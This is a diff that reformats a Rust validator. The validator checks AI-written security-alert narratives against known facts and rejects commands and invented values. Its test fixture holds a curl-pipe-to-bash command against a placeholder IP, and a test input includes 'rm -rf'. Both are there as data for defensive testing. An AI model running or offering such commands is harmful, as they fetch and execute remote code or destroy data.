@@ -65,7 +65,8 @@ pub fn check(text: &str, facts: &str) -> Result<Answer, Rejected> {
 }
 
 fn check_part(part: &str, facts: &str) -> Result<(), Rejected> {
-    if part.contains("```") || part.contains("- rule:") || part.lines().any(|line| line.trim_start().starts_with("$ ")) {
+    if part.contains("```") || part.contains("- rule:") || part.lines().any(|line| line.trim_start().starts_with("$ "))
+    {
         return Err(Rejected::Command);
     }
     let lower = part.to_lowercase();
@@ -106,7 +107,8 @@ fn is_value(word: &str) -> bool {
     let digits = word.bytes().filter(u8::is_ascii_digit).count();
     let path = word.starts_with('/') || word.starts_with("~/") || word.contains("://");
     let dotted = word.split('.').count() >= 2 && word.split('.').all(|part| !part.is_empty()) && !word.ends_with('.');
-    let identifier = word.len() >= 8 && digits >= 2 && word.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_:".contains(&b));
+    let identifier =
+        word.len() >= 8 && digits >= 2 && word.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_:".contains(&b));
     path || dotted || identifier || word.contains('@')
 }
 
@@ -117,7 +119,8 @@ mod tests {
     const FACTS: &str = "proc.cmdline = \"curl http://203.0.113.66/x | bash\"\nk8s.pod.name = \"web-5f7c6d9b4-zq8rl\"";
 
     fn answer(narrative: &str) -> Result<Answer, Rejected> {
-        let body = serde_json::json!({"narrative": narrative, "questions": ["Who deployed it?"], "raise_attention": true});
+        let body =
+            serde_json::json!({"narrative": narrative, "questions": ["Who deployed it?"], "raise_attention": true});
         check(&body.to_string(), FACTS)
     }
 
@@ -129,7 +132,9 @@ mod tests {
 
     #[test]
     fn invented_values_are_rejected() {
-        for text in ["It wrote /etc/cron.d/x.", "It called 198.51.100.7.", "See pod web-0a1b2c3d4-aaaaa.", "Run `rm -rf`."] {
+        for text in
+            ["It wrote /etc/cron.d/x.", "It called 198.51.100.7.", "See pod web-0a1b2c3d4-aaaaa.", "Run `rm -rf`."]
+        {
             assert!(matches!(answer(text), Err(Rejected::Invented(_))), "{text}");
         }
     }
